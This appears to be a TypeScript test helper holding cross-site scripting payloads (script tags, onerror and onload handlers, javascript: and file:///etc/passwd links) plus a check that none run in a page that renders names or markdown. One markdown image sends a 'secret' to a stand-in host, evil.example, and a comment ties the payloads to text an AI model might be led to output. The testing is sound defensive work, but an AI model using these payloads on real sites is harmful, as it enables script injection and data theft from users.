import { expect } from 'vitest';
import type { Page } from 'playwright-core';

/** Marks the page if it runs. */
const RUN = "globalThis.hacked='yes'";

/** Names that would run in a page that took them for HTML. */
export const NAME_PAYLOAD = `<img src=x onerror="${RUN}">"'><script>${RUN}</script>`;

/** For what has at most 60 characters. */
export const SHORT_PAYLOAD = `<img src=x onerror="${RUN}">`;

/** For names without spaces. */
export const WORD_PAYLOAD = `<svg/onload="${RUN}">`;

/** What a model, or a document that it repeats, could say to a page that draws markdown. */
export const MARKDOWN_PAYLOAD = [
  'Before the attack.',
  `<img src="x" onerror="${RUN}"><script>${RUN}</script><svg onload="${RUN}"></svg>`,
  `<iframe srcdoc="<script>parent.hacked='yes'</script>"></iframe><style>body{display:none}</style>`,
  `[run](javascript:${RUN}) [tab](java\tscript:${RUN}) [data](data:text/html,<script>${RUN}</script>)`,
  `[vb](vbscript:x) [file](file:///etc/passwd) [own](/v1/session) <javascript:${RUN}>`,
  '![leak](https://evil.example/leak.png?q=secret) ![inline](data:image/svg+xml,<svg/onload=x>)',
  `| a | <b onclick="${RUN}">b</b> |\n|---|---|\n| <img src=x onerror="${RUN}"> | d |`,
  '[good](https://example.com/page) [mail](mailto:ada@example.com)',
].join('\n\n');

/** Fails if something of a payload was run, or became part of the page. */
export async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate<unknown[]>(`[
    globalThis.hacked,
    document.querySelectorAll('main img, main svg[onload], main iframe, main script, main style:not([data-mantine-styles])').length,
    [...document.querySelectorAll('*')].filter((one) =>
      [...one.attributes].some(({ name }) => name.startsWith('on'))).length,
    [...document.querySelectorAll('main a[href]')].map((one) => one.getAttribute('href'))
      .filter((href) => /^(javascript|data|vbscript|file):/i.test(href.trim())).length,
  ]`);
  expect(found).toEqual([undefined, 0, 0, 0]);
}
